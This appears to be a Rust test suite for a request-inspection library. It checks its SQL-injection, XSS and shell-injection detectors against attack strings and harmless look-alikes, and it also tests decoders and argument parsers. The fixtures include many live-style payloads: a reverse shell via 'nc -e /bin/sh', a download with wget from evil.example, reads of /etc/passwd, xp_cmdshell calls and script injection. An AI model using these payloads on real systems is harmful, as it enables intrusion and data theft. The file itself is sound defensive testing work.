//! Attacks and harmless values for each judgement, in several equivalent spellings.

mod common;

use common::all;
use margay_meaning::Judge;
use margay_meaning::args::{ArgLimits, Args};
use margay_meaning::decode::{Decoding, canonical};
use proptest::prelude::*;

#[test]
fn sqli() {
    let attacks = [
        "1' OR '1'='1",
        "' or 1=1 -- ",
        "\" or \"\"=\"",
        "admin'--",
        "1 or 1=1",
        "1) or (1=1",
        "1 UNION ALL SELECT NULL, NULL, version()",
        "-1/**/union/**/select/**/1,2",
        "1 uni/**/on sel/**/ect 1,2,3",
        "1; drop table users",
        "'; exec master..xp_cmdshell 'dir' --",
        "1 and sleep(5)",
        "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ",
        "' waitfor delay '0:0:5' --",
        "x' and extractvalue(1, concat(0x7e, version())) and '1'='1",
        "1 order by 10",
        "' having 1=1--",
        "%27%20or%201%3D1%20--",
        "1\u{2019} or \u{2019}1\u{2019}=\u{2019}1",
        "select * from information_schema.tables",
        "1 procedure analyse()",
        "'||(select 1)||'",
        "' or '{\"a\":1}'::jsonb @> '{\"a\":1}'",
        "user'collate U&\"$1#\"--",
        ", find_in_set('22', category )",
        "and deleted = 0)",
        "&& 1==(",
        "x[@vendor]=(SELECT",
        "if(2=",
        "colour like '",
        "1unionselect2",
        "except \tselect.1,2",
        ";RePLAcE/*x*/t/*x*/(id, name) VALUES (1, 'x');",
        "FROM `t` WHERE `t`.`id` = 25251 LIMIT",
        " IN (815919, 815920, 815921, 815922, 815923, 815924, 815925, 815926, 815927, 815928)",
        "IN/**/(",
        "DR/**/OP/*x*/sampletable",
        "concat(0x223e3c,version(),0x3c69)",
        "foo\\''or'oof",
        "a@b`;",
        "; --",
        "1 exec sp_ (or exec xp_)",
        "' = #",
        "' or xyz-",
        "MSBhbmQgMT0y",
        "select 0x616263",
        "VALUES ('192.0.2.1', 'x')",
        "FROM+`a`+WHERE+CONVERT(`a`.`id`+USING+utf8)+=+'x'+LIMIT",
    ];
    all(Judge::Sqli, true, &attacks);
    let harmless = [
        "",
        "1",
        "O'Reilly",
        "The movie \"Se7en\" (1995) or 'The Matrix' (1999)?",
        "Coupe d'or",
        "l'or et l'argent",
        "it's or it isn't",
        "rock and roll",
        "select a colour from the list",
        "union of workers select a speaker",
        "bob's or alice's",
        "John -- the second one",
        "price < 10 and > 5",
        "drop me a line; update me tomorrow",
        "a=b&c=d",
        "{\"op\":\"and\",\"n\":1}",
        "C# and F#",
        "where is the order by mail?",
        "5 in 1",
        "find (in set)",
        "deleted = 0)",
        "and so on)",
        "if (2 of us",
        "\"I like 'em\"",
        "trade union selection",
        "from a place where we met",
        "dr/op",
        "cross/**/over",
        "execute() the plan",
        "select 2",
        "values (of a company)",
        "from+here+where+it+is",
        "can't; don't",
        "'and then he said'",
        "notes; see -- below",
        "set @home",
        "in (Berlin and Paris)",
    ];
    all(Judge::Sqli, false, &harmless);
}

#[test]
fn xss() {
    let attacks = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<iframe src=x>",
        "' onmouseover='alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\u003cscript\\u003ealert(1)",
        "<div style=\"width: expression(alert(1))\">",
        "top['ale'+'rt'](document['domain'])",
        "constructor.constructor('alert(1)')()",
        "＜script＞alert(1)＜/script＞",
    ];
    all(Judge::Xss, true, &attacks);
    let harmless = [
        "a < b > c",
        "<b>bold</b> and <i>italic</i>",
        "<p>text</p>",
        "I <3 you",
        "one=1&only=2",
        "see http://example.com/script.html",
        "javascript is a language",
        "binary<script\" is incorrect",
        "javascript:void(0)",
    ];
    all(Judge::Xss, false, &harmless);
}

#[test]
fn shell() {
    let attacks = [
        "127.0.0.1; cat /etc/passwd",
        "127.0.0.1|whoami",
        "`id`",
        "$(uname -a)",
        "x && wget http://evil.example/x.sh",
        "a\nid\n",
        ";c'a't /etc/pass?d",
        ";c\\at${IFS}/etc/passwd",
        ";/bin/ca? /et*/passwd",
        "| nc -e /bin/sh 192.0.2.1 4444",
        "&& ping -c 10 127.0.0.1",
        "a;who^ami",
        ";id\\n",
        "&& | dir c:\\",
        "|$u wget test",
        "https://www.example.com/?a=b#x=env --version",
        "code=ansible-console",
        "\" | type %SystemDrive%\\config.ini | \"",
        "x%26%26%2B%7C%2Bdir%20c:%5c",
        "$(sleep 10)",
        ";find / -perm -4000 -exec ls {} \\;",
        "& net user mallory Passw0rd /add",
        "1;telnetd -l /bin/sh;",
        "a;make all",
    ];
    all(Judge::Shell, true, &attacks);
    let harmless = [
        "Tom & Jerry",
        "now; more than that",
        "cats and dogs; a find",
        "a|b|c",
        "time; date; place",
        "(id)",
        "the host; a test of time",
        "head & shoulders",
        "https://www.example.com/?find=time",
        "https://www.example.com/?q=env",
        "sort=date",
        "Version 2.17 is safe; make sure no old jar is left.",
        "a; find me a seat - or two",
        "rest; sleep 8 hours",
        "Col de l'Iseran & more",
        "| Name | Type |\n| --- | --- |\n| id | int |\n",
    ];
    all(Judge::Shell, false, &harmless);
}

#[test]
fn decodings() {
    let run = |d: Decoding, text: &str| {
        let mut out = Vec::new();
        d.run(text.as_bytes(), &mut out);
        out.escape_ascii().to_string()
    };
    assert_eq!(run(Decoding::UrlRecursive, "%2527%u0041%zz+"), "'A%zz+".escape_debug().to_string());
    assert_eq!(run(Decoding::HtmlEntity, "&lt;&#60;&#x3C;&amp;lt;&ltx&nosuch;"), "<<<&lt;&ltx&nosuch;");
    assert_eq!(run(Decoding::Js, r"\x41\u0042\u{43}\104 \b\q"), r"ABCD \\b\\q");
    assert_eq!(run(Decoding::Utf8, "\u{ff1c}a\u{2019}\u{200b}b\u{3000}c"), r"<a\'b c");
    let mut overlong = Vec::new();
    Decoding::Utf8.run(b"\xc0\xae\xc0\xae\xc0\xaf", &mut overlong);
    assert_eq!(overlong, b"../");
    assert_eq!(run(Decoding::Comments, "a/* x */b/*!50000c*/d/*e"), "a b c d ");
    assert_eq!(run(Decoding::Shell, "c'a't${IFS}/e\\tc/pa$@ss`` w^ho"), "cat /etc/pass who");
    assert_eq!(run(Decoding::Path, r"a\.\b//c/./../d"), "a/b/c/../d");
    assert_eq!(run(Decoding::Base64, "c2VsZWN0IDEgZnJvbSB1c2Vycw=="), "select 1 from users");
    assert_eq!(run(Decoding::Base64, "short"), "short");
    assert_eq!(run(Decoding::Canonical, "%253Cs%0A%20X&#x3E;"), r"<s\nx>");
}

fn list(fill: impl FnOnce(&mut Args)) -> Vec<String> {
    let mut args = Args::new(ArgLimits::default());
    fill(&mut args);
    (0..args.len()).filter_map(|i| args.get(i)).map(|v| String::from_utf8_lossy(v).into_owned()).collect()
}

#[test]
fn arguments() {
    assert_eq!(
        list(|a| a.form(b"a=1%202&b+c=d&e&&f=%7B%22g%22%3A%22h%22%7D")),
        ["a", "1 2", "b c=d", "d", "e", "f", "g", "h"]
    );
    assert_eq!(list(|a| a.cookies(b" a=b; c ;d=%41")), ["a", "b", "c", "d", "A"]);
    assert_eq!(list(|a| a.path(b"/a%2fb")), ["/a/b"]);
    assert_eq!(
        list(|a| a.json(br#"{"a":["b\n\u0027\ud83d\ude00",1],"c":"{\"d\":\"e\"}"}"#)),
        ["a", "b\n'\u{1f600}", "c", "d", "e"]
    );
    assert_eq!(list(|a| a.xml(b"<?xml v='1'?><a b=\"c&lt;\">d<![CDATA[<e>]]></a>")), ["1", "c<", "d", "<e>"]);
    let multipart = b"--X\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\nv\r\n--X\r\nContent-Disposition: form-data; name=\"f\"; \
        filename=\"a.php\"\r\n\r\n<?php\r\n--X--\r\n";
    assert_eq!(list(|a| a.body(b"multipart/form-data; boundary=X", multipart)), ["n", "v", "f", "a.php"]);
    assert_eq!(list(|a| a.body(b"application/json", b"{\"a\":")), ["a", "{\"a\":"]);
    assert_eq!(list(|a| a.body(b"text/plain", b"x=y")), ["x=y", "x", "y"]);
    assert_eq!(list(|a| a.body(b"image/png", b"\x89PNG")), [""; 0]);
    assert_eq!(list(|a| a.body(b"text/plain; zip", b"a")), ["a"]);
    // Documents one after the other, and the last one cut off.
    assert_eq!(list(|a| a.body(b"application/x-ndjson", b"{\"a\":\"b\"}\n{\"c\":\"d")), ["a", "b", "c", "d"]);
    assert_eq!(list(|a| a.body(b"application/json", b"{\"a\":\"b\"}{\"c\":1}")), ["a", "b", "c"]);
    assert_eq!(list(|a| a.body(b"application/json", b"{\"a\":1} or 1")), ["a", "{\"a\":1} or 1"]);
    // A log is no form, and a pack is no text.
    let log: &[u8] = b"a & b\nc=d\ne=f\ng=h";
    assert_eq!(list(|a| a.body(b"text/plain", log)), [String::from_utf8_lossy(log)]);
    let pack = b"0093 refs/heads/main\0 report-status0000PACK\0\0\0\x02\x9c\xe0@{(\xff\x81\x90\xa3\xb5\xd1\xc8\xf0\x99\x9a\xee\xdd";
    assert_eq!(
        list(|a| a.body(b"application/x-git-receive-pack-request", pack)),
        ["0093 refs/heads/main\n report-status0000\n"]
    );
    let few = ArgLimits { count: 2, bytes: 1000 };
    let mut args = Args::new(few);
    args.form(b"a=b&c=d");
    assert!(args.is_cut() && args.len() == 2);
    let mut args = Args::new(ArgLimits { count: 9, bytes: 3 });
    args.form(b"ab=cdef");
    assert_eq!((args.get(0), args.get(1), args.is_cut()), (Some(&b"ab"[..]), Some(&b"c"[..]), true));
}

/// Whatever a server may read as a value is one, although other servers read it as something else.
#[test]
fn forms_in_parts() {
    let holds = |content_type: &str, body: &str| {
        let found = list(|a| a.body(content_type.as_bytes(), body.as_bytes()));
        assert!(found.iter().any(|v| v.contains("1' or 2")), "{content_type}: {body:?}: {found:?}");
    };
    let headers = [
        "Content-Disposition: form-data; name=\"a\"; y=\"filename=b\"",
        "Content-Disposition: form-data; name=\"a filename=b\"",
        "Content-Disposition: form-data; name=\"a\"; filename=\"\"",
        "Content-Disposition: form-data; name=\"a\\\"; filename=\"b",
        "Content-Disposition: form-data; name=a\r\nX: filename=b",
        "Content-Disposition:\r\n form-data;\r\n name=a",
        "Content-Disposition: form-data; name=a\r\nContent-Type: application/json",
        "Content-Disposition: form-data; name=a\r\nContent-Type: text/xml",
        "Content-Disposition: form-data; name=application/json",
        "X: y",
    ];
    for header in headers {
        holds("multipart/form-data; boundary=X", &format!("--X\r\n{header}\r\n\r\n1' or 2\r\n--X--\r\n"));
    }
    let header = "Content-Disposition: form-data; name=a";
    let types = [
        "multipart/form-data; boundary=X",
        "multipart/form-data; xboundary=Y; boundary=X",
        "multipart/form-data; a=\"boundary=Y\"; boundary=X",
        "multipart/form-data; boundary=Y; boundary=X",
        "multipart/form-data; boundary = X",
        "multipart/form-data; boundary=\"\\X\"",
        "multipart/form-data; boundary=Y",
        "multipart/form-data",
        "image/png, multipart/form-data; boundary=X",
    ];
    for content_type in types {
        holds(content_type, &format!("--X\r\n{header}\r\n\r\n1' or 2\r\n--X--\r\n"));
        // Line feeds alone, and empty lines behind the header's end.
        holds(content_type, &format!("--X\n{header}\n\n1' or 2\r\n\r\n3\r\n--X--\r\n"));
        // Within a line, a delimiter is none. A longer line may be none.
        holds(content_type, &format!("--X\r\n{header}\r\n\r\n1--X' 1' or 2\r\n--X--\r\n"));
        holds(content_type, &format!("--X\r\n{header}\r\n\r\n1\r\n--Xy 1' or 2\r\n--X--\r\n"));
    }
    for (coding, value) in [("quoted-printable", "1=27 =\r\nor 2"), ("Base64", "MScg\r\nb3Ig\r\nMg==")] {
        let header = format!("{header}\r\nContent-Transfer-Encoding: {coding}");
        holds("multipart/form-data; boundary=X", &format!("--X\r\n{header}\r\n\r\n{value}\r\n--X--\r\n"));
    }
    let file = "Content-Disposition: form-data; name=a; filename=b";
    let content = format!("--X\r\n{file}\r\n\r\n1' or 2\r\n--X--\r\n");
    assert_eq!(list(|a| a.body(b"multipart/form-data; boundary=X", content.as_bytes())), ["a", "b"]);
}

#[test]
fn credentials() {
    assert_eq!(list(|a| a.authorization(b"Basic YScgb3IgMTpiOmM=")), ["a' or 1", "b:c"]);
    assert_eq!(list(|a| a.authorization(b"Digest username=\"a' or 1\", realm=\"b\"")), ["a' or 1", "b"]);
    assert_eq!(list(|a| a.authorization(b"Bearer ' or 1")), ["' or 1"]);
    assert_eq!(list(|a| a.authorization(b"AWS4-HMAC-SHA256 Credential=a/b, SignedHeaders=c;d")), [""; 0]);
}

#[test]
fn quotes_in_comments() {
    let found = list(|a| a.xml(b"<r><!-- ' --><?x '?><id>1 or 'a'</id><b>1 < 2</b><c d"));
    assert_eq!(found, [" ' ", "?>", "<?x '?>", "1 or 'a'", "1", "< 2", "<c d"]);
}

/// Repetitive input takes linear time. With quadratic time this test would not end.
#[test]
fn repeated() {
    let pieces = [
        "'", "\"", "\\'", "/*", "--", "--a", "(", "union ", "<", "<a ", "=", "on=", ":", "java", ";", "|", "`", "$(",
        "%", "&#", "\\u", "a'b\"c", "select ", "[{\"", "../", "\n", "+", "<!--", "or ",
    ];
    for piece in pieces {
        let value = piece.repeat((64 << 10) / piece.len());
        let mut out = Vec::new();
        canonical(value.as_bytes(), &mut out);
        for judge in Judge::ALL {
            judge.holds(&out);
            judge.holds(value.as_bytes());
        }
        let mut args = Args::new(ArgLimits::default());
        args.form(value.as_bytes());
        args.json(value.as_bytes());
        args.xml(value.as_bytes());
        args.body(b"multipart/form-data; boundary=a", value.as_bytes());
    }
}

#[test]
fn texts_that_tell() {
    // Sentences around code, many lines of a program, and complete filters.
    let passes = [
        "Why does this query return nothing? select id from orders where status = 'open' and total > 100 order by id",
        "In Postgres you can write SELECT * FROM users WHERE name = 'x' OR 1 = 1, but that returns every row",
        "How do I write it so that a name like O'Hara does no harm",
        "WITH monthly AS (\n  SELECT sum(amount) AS total\n  FROM payments\n  GROUP BY 1\n)\nSELECT m, total FROM monthly ORDER BY m;",
        "status = 'Open' AND priority in (High, Critical) AND updated >= -7d ORDER BY priority DESC",
    ];
    all(Judge::Sqli, false, &passes);
    let attacks = [
        "I like the book that you have' OR 1=1 --",
        "I like the book that you have' OR 1=1 -- and would like to borrow it",
        "How do I write it so that ' OR 1=1 -- does no harm",
        "```\n' or 1=1 -- \n```",
        "aaaaaaaaaaaaaaa\nbbbbbbbbbbbbbbb' or 1=1 or 'ccccccccccccccc\nddddddddddddddd\neeeeeeeeeeeeeee",
        "my name is `' or 1=1 -- ` and thanks for all of it",
        "this is what you want' union select null, version() and 'z'='z",
        "this is what you want' union select null, version() and 'a'='a",
        "aaaaaaaaaaaaaaa\nbbbbbbbbbbbbbbb\nccccccccccccccc\n' OR 1=1 -- ",
        "1' OR '1'='1\naaaaaaaaaaaaaaa\nbbbbbbbbbbbbbbb\nccccccccccccccc",
        "id = 1 or 1 = 1",
        "id = 5 or id = id",
        "name = 'x' and sleep(5) = 0",
    ];
    all(Judge::Sqli, true, &attacks);
    all(Judge::Shell, false, &["You can check the port with `curl -I http://localhost:3000` or `netstat -tlnp`."]);
    all(
        Judge::Shell,
        true,
        &[
            "this is the file that you want; cat /etc/passwd",
            ";cat /etc/passwd\naaaaaaaaaaaaaaa\nbbbbbbbbbbbbbbb\nccccccccccccccc",
        ],
    );
    let shown = [
        "What is XSS? An attacker puts <script> into a page.",
        "Is there a difference between document.write() and innerHTML? My teacher says document.write is bad.",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\"><rect width=\"10\" fill=\"#f00\"/></svg>",
        "<style>p{color:red}</style>",
    ];
    all(Judge::Xss, false, &shown);
    let run = [
        "this is what you want <script>alert(1)</script>",
        "<svg width=1><script>x</script></svg>",
        "<svg width=1 onload=x></svg>",
        "<svg width=1><use href=\"data:image/svg+xml,x\"/></svg>",
        "<style>@import'//x.example/a.css';</style>",
    ];
    all(Judge::Xss, true, &run);
}

#[test]
fn code_within_sentences() {
    // Markdown shows code in backticks.
    let passes = [
        "Nit: `if (user = 'admin' or 1)` is always true. Did you mean `==`?",
        "```sql\nselect id from t where a = 'x' or 1=1\n```",
        "Write a query: select a from b where c = 'd'; I am lost and do not know why it has no rows.",
    ];
    all(Judge::Sqli, false, &passes);
    let attacks = ["`id` = 1' or '1'='1", "```x y\n' or 1=1 --\n```", "this is `code` and so' or 1=1 --"];
    all(Judge::Sqli, true, &attacks);
    let passes = [
        "try `dig +short mx example.com | sort -n | head -1` and tell me what you see",
        "the fix was `chmod 600 x && ssh-add -l`, thanks Ana!",
        "try `systemctl restart nginx && journalctl -fu nginx` or reboot ;)",
        "# Setup\n1. `git clone https://example.com/x.git && cd x`\n2. `make`\n> Note: needs `sudo`.",
        "Write a line that counts lines: cat file | wc -l",
        "Dear all, the plan is at the office. Cheers; Ed",
        "<(\\w+)[^>]*>",
    ];
    all(Judge::Shell, false, &passes);
    let attacks = [
        "`id`",
        "x `wget http://evil.example/x` y",
        "127.0.0.1 `id`",
        "this is the file`id`",
        "this is the file; `cat /etc/passwd`; and so on; cat /etc/passwd",
        "Write a line that counts lines: cat file | sh",
        "Write a line that counts lines: cat file | tail /etc/passwd",
    ];
    all(Judge::Shell, true, &attacks);
}

#[test]
fn searches_about_attacks() {
    let passes = [
        "xp_cmdshell disable",
        "information_schema tables",
        "\"union select\" tutorial",
        "'or' in french",
        "drop table dining furniture",
        "create user manual",
        "what is xp_cmdshell",
        "sleep(5) hours",
        "while (1) sleep(5);",
        "o'or",
        "total > 100 and tier in [\"gold\", \"silver\"]",
        "query Find($id: ID!) { item(name: \"men's\", or: 1) { id } }",
    ];
    all(Judge::Sqli, false, &passes);
    let attacks = [
        "exec xp_cmdshell",
        "\"union select\" tutorial 1",
        "'or' in ('a')",
        "drop table users cascade",
        "create user mallory identified by 'x'",
        "' or 1 in (1)",
        "query Find { item(name: \"x' or 1=1 --\") { id } }",
        "';prepare s from 0x73656c656374;execute s;#",
        "lower(convert(varchar(32),hashbytes('md5','9'),2))",
        "'-0||'",
        "'^(0)^'",
    ];
    all(Judge::Sqli, true, &attacks);
    all(Judge::Shell, false, &["whoami command", "netstat options explained"]);
    all(Judge::Shell, true, &["ansible-config dump", "netstat -an", "whoami /priv"]);
    let passes = [
        "<script> tag async vs defer",
        "alert(1) meaning",
        "alert ( not alarm )",
        "javascript: the good parts",
        "<svg width=\"20\"><use href=\"#cart\"/></svg>",
        "<video controls src=\"/a.mp4\"></video>",
        "<form action=\"/search\" method=\"get\">",
        "<iframe src=\"https://www.youtube.com/embed/x\" width=\"560\"></iframe>",
        "<style>p{background:url(/a.png)}</style>",
    ];
    all(Judge::Xss, false, &passes);
    let attacks = [
        "<script> alert(1) tag",
        "alert(1) in x",
        "javascript: alert(1)",
        "<svg width=1><use href=\"https://evil.example/#x\"/></svg>",
        "<svg width=1><a href=\"javascript:alert(1)\"/></svg>",
        "<video onerror=\"x\" src=\"/a.mp4\"></video>",
        "<form action=\"//evil.example\" method=\"get\">",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<style>p{background:url(https://evil.example/a)}</style>",
    ];
    all(Judge::Xss, true, &attacks);
}

#[test]
fn commands_behind_addresses() {
    let attacks = ["127.0.0.1|echo x", ";sleep 7;b", "admin';ls #", "admin';ls / #"];
    all(Judge::Shell, true, &attacks);
    let passes = ["300 people.say|echo x", "eat; sleep 8 hours; repeat", "1.2.3|echo x", "ls #1"];
    all(Judge::Shell, false, &passes);
}

proptest! {
    /// No input causes a panic, and no decoding grows beyond its documented limit.
    #[test]
    fn anything(data in proptest::collection::vec(any::<u8>(), 0..400)) {
        for decoding in Decoding::ALL {
            let mut out = Vec::new();
            decoding.run(&data, &mut out);
            prop_assert!(out.len() <= data.len() * 2 + 4, "{}: {} of {}", decoding.name(), out.len(), data.len());
        }
        for judge in Judge::ALL {
            judge.holds(&data);
        }
        let mut args = Args::new(ArgLimits::default());
        args.body(b"", &data);
        args.body(b"application/json", &data);
        args.body(b"text/xml", &data);
        args.body(b"multipart/mixed; boundary=\"a\"", &data);
    }

    /// Canonical form is idempotent, except for Base64 that only lower-casing hides.
    #[test]
    fn canonical_is_final(text in "[ -~]{0,60}") {
        let (mut once, mut twice) = (Vec::new(), Vec::new());
        canonical(text.as_bytes(), &mut once);
        canonical(&once, &mut twice);
        prop_assert!(twice.len() <= once.len());
    }

    /// A run of white space becomes one character, wherever it lies in the value.
    #[test]
    fn canonical_white_space(words in proptest::collection::vec("[A-Za-z,.]{0,70}", 0..8), gaps in
        proptest::collection::vec("[ \t\r\n]{1,3}", 8))
    {
        let (mut text, mut want) = (String::new(), String::new());
        for (word, gap) in words.iter().zip(&gaps) {
            text.push_str(word);
            text.push_str(gap);
        }
        let mut in_gap = false;
        for c in text.chars() {
            let line = matches!(c, '\r' | '\n');
            match (c.is_ascii_whitespace(), in_gap) {
                (true, true) if line => {
                    want.pop();
                    want.push('\n');
                }
                (true, true) => {}
                (true, false) => want.push(if line { '\n' } else { ' ' }),
                (false, _) => want.push(c.to_ascii_lowercase()),
            }
            in_gap = c.is_ascii_whitespace();
        }
        let mut out = Vec::new();
        canonical(text.as_bytes(), &mut out);
        let mut base64 = Vec::new();
        if !margay_meaning::decode::base64_plausible(text.as_bytes(), &mut base64) {
            prop_assert_eq!(String::from_utf8_lossy(&out), want);
        }
    }

    /// Copied parts equal those that are decoded byte by byte.
    #[test]
    fn plain_parts_are_copied(data in proptest::collection::vec(prop_oneof![Just(b'%'), Just(b'+'), Just(b'4'), Just(b'1'),
        Just(b'u'), Just(b'/'), Just(b'.'), Just(b'\\'), any::<u8>()], 0..60))
    {
        for plus in [false, true] {
            let (mut out, mut want, mut at) = (Vec::new(), Vec::new(), 0);
            margay_meaning::decode::percent_decode(&data, plus, &mut out);
            while at < data.len() {
                // An escape has at most six bytes.
                let mut one = Vec::new();
                let len = match &data[at..] {
                    [b'%', a, b, ..] if a.is_ascii_hexdigit() && b.is_ascii_hexdigit() => 3,
                    [b'%', b'u' | b'U', a, b, c, d, ..] if [a, b, c, d].iter().all(|b| b.is_ascii_hexdigit()) => 6,
                    _ => 1,
                };
                margay_meaning::decode::percent_decode(&data[at..at + len], plus, &mut one);
                want.extend(one);
                at += len;
            }
            prop_assert_eq!(out, want);
        }
        let (mut out, mut marked) = (Vec::new(), Vec::new());
        margay_meaning::decode::path_normalise(&data, &mut out);
        // A backslash at the end, which nothing follows, prevents the copy and is a slash at the end.
        margay_meaning::decode::path_normalise(&[&data[..], b"a\\"].concat(), &mut marked);
        out.extend(b"a/");
        prop_assert_eq!(out, marked);
    }
}

#[test]
fn definitions_and_dated_lines_are_not_sqli() {
    let harmless = [
        "CREATE FUNCTION moddatetime() RETURNS trigger AS 'MODULE_PATHNAME' LANGUAGE C;",
        "create or replace function pg_catalog.f(text) returns bool as 'select pg_catalog.g($1, null::pg_catalog.text);' language sql",
        "ALTER FUNCTION pg_stat_statements_reset() PARALLEL SAFE;",
        "REVOKE ALL ON FUNCTION pg_truncate_visibility_map(regclass) FROM PUBLIC;",
        "-- how far\n\nALTER EXTENSION pg_stat_statements DROP VIEW pg_stat_statements;",
        "CREATE VIEW pg_stat_statements AS SELECT * FROM pg_stat_statements(true);",
        "GRANT SELECT ON pg_buffercache TO pg_monitor;",
        "ALTER OPERATOR FAMILY gin_trgm_ops USING gin ADD OPERATOR 5 pg_catalog.~ (text, text);",
        "/* contrib/x--1.2.sql */\n-- complain; about it\n\\echo Use \"CREATE EXTENSION x\" to load this file. \\quit\n\
         CREATE FUNCTION f(int4, OUT pages int4)\nRETURNS record AS 'MODULE_PATHNAME', 'f'\nLANGUAGE C STRICT;\n\
         REVOKE ALL ON FUNCTION f(int4) FROM PUBLIC; COMMENT ON FUNCTION f(int4) IS 'counts; pages';",
        "CREATE OR REPLACE FUNCTION f() RETURNS int AS $body$ BEGIN SELECT 1; DROP TABLE t; END $body$ LANGUAGE plpgsql;",
        "2026-11-20 12:16:40.251 UTC [46251] app@shop LOG:  statement: PERFORM pg_catalog.set_config(search_path, old_path, true);",
        "2026-11-20T12:16:40 select count(*) from items",
    ];
    all(Judge::Sqli, false, &harmless);
    let attacks = [
        "create function sys_exec returns integer soname 'udf.so'",
        "create or replace function system(cstring) returns int as '/lib/libc.so.6', 'system' language 'c'",
        "create function f() returns int as 'x' language sql; drop table users",
        "create function f(s char(20)) returns char(50) deterministic return concat('hello, ', s, '!');",
        "1; create function f() returns int as 'x' language sql",
        "create function f() returns int as 'x' language sql; select f()",
        "create function f() returns int as '/*'; drop table users; comment on x is '*/'",
        "create function f() returns int as '$$'; drop table users; comment on x is '$$'",
        "create function f() returns int as 'x --'; drop table users",
        "create view v as select 1 as \"/*\"; drop table users; comment on x is '*/'",
        "create function f() returns int as $$ x $$ language sql; copy t from program 'id'",
        "alter function f() parallel safe; -- \nupdate users set password='x'",
        "grant connect to joe",
        "grant all on *.* to joe",
        "/**/create function f() returns int as 'x' language sql; drop table users",
        "create table users (id int)",
        "2026-11-20 12:16:40' or '1'='1",
        "2026-11-20 12:16:40\" or 1=1 -- ",
        "2026-11-20 or 1=1",
    ];
    all(Judge::Sqli, true, &attacks);
}
